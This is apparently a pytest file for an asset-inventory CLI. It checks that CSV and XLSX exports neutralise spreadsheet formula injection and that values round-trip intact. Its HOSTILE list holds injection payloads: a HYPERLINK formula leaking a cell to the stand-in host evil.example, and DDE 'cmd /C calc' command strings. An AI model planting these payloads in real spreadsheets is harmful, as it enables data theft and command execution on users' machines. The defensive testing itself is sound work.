"""A hostile spreadsheet (and a hostile hostname reported by an agent) goes through `campusmon assets
import` and comes out of `assets export` (CSV and XLSX) and `assets list --csv` with no cell a
spreadsheet program would run as a formula; importing the export gives back the original values."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from campusmon.cli import app
from campusmon.contract import Inventory
from campusmon.server.db import Database
from campusmon.server.register.formulas import FORMULA_STARTS, neutralise, restore
from campusmon.server.register.service import RegisterService

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看保修")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "＝1+1",  # full-width
    "＠SUM(A1)",
    "'=already quoted by hand",
    "-",
]
HOSTNAME = '=HYPERLINK("http://evil.example","PC-302")'


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("CAMPUSMON_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("CAMPUSMON_SERVER_CONFIG", raising=False)
    runner = CliRunner()

    def run(*args: str, code: int = 0) -> str:
        result = runner.invoke(app, ["assets", *args])
        assert result.exit_code == code, (args, result.output, result.exception)
        return result.output

    return run


def hostile_csv(path: Path) -> None:
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["资产编号", "名称", "序列号", "品牌", "型号", "使用部门", "位置", "备注"])
        for i, bad in enumerate(HOSTILE):
            w.writerow([f"-T{i}", bad, f"{bad} SN{i}", bad, bad, bad, bad, f"{bad}\n=second line"])


def assert_no_live_cell(cells: list[str]) -> None:
    live = [c for c in cells if c.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS]
    assert not live, live
    assert any(c.startswith("'=") for c in cells)  # the hostile values are there, behind a quote


def test_hostile_spreadsheet_exports_without_a_live_formula_and_imports_back(cli, tmp_path: Path) -> None:
    src = tmp_path / "hostile.csv"
    hostile_csv(src)
    cli("import", str(src))
    db = Database(f"sqlite:///{tmp_path / 'data' / 'campusmon.db'}")
    try:
        RegisterService(db).record_inventory(
            Inventory(
                campus="main",
                device="pc-302",
                ts=1763884800.0,
                hash="h1",
                identity={},
                inventory={"hostname": HOSTNAME, "smbios": {"serial": "CN0HOSTILE1"}},
            )
        )
    finally:
        db.dispose()
    before = json.loads(cli("list", "--json"))
    assert len(before) == len(HOSTILE) + 1
    # a quote in front of formula text is taken as another program's neutralising, like ours
    assert {a["name"] for a in before} == {*map(restore, HOSTILE), HOSTNAME}

    for lang in ("en", "zh"):
        out_csv = tmp_path / f"export-{lang}.csv"
        out_xlsx = tmp_path / f"export-{lang}.xlsx"
        cli("export", "--out", str(out_csv), "--lang", lang)
        cli("export", "--out", str(out_xlsx), "--lang", lang)

        rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"), newline="")))
        cells = [c for row in rows[1:] for c in row]
        assert_no_live_cell(cells)
        assert "'=cmd|' /C calc'!A0" in cells  # still readable: the value behind one quote

        wb = load_workbook(out_xlsx)  # not data_only: formulas would show as data_type "f"
        ws = wb.active
        assert ws is not None
        xcells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
        assert not [c.coordinate for c in xcells if c.data_type == "f"]
        assert_no_live_cell([c.value for c in xcells if isinstance(c.value, str)])
        with zipfile.ZipFile(out_xlsx) as z:
            sheet = next(n for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
            assert b"<f>" not in z.read(sheet) and b"<f " not in z.read(sheet)

        for exported in (out_csv, out_xlsx):
            report = json.loads(cli("import", str(exported), "--json"))
            assert (report["created"], report["updated"], report["errors"]) == (0, 0, [])
            assert report["unchanged"] == len(before)
    assert json.loads(cli("list", "--json")) == before

    listed = list(csv.reader(io.StringIO(cli("list", "--csv"), newline="")))
    assert_no_live_cell([c for row in listed[1:] for c in row])


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1", "'＝1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A", "'＠A"),
        ("  =1", "'  =1"),
        ("\u3000=1", "'\u3000=1"),
        ("'=1", "''=1"),
        ("''=1", "'''=1"),
        ("'plain", "'plain"),
        ("'", "'"),
        ("", ""),
        ("PC-302", "PC-302"),
        ("a=1", "a=1"),
        ("电脑 -1", "电脑 -1"),
    ],
)
def test_neutralise_table(value: str, written: str) -> None:
    assert neutralise(value) == written
    assert restore(written) == value
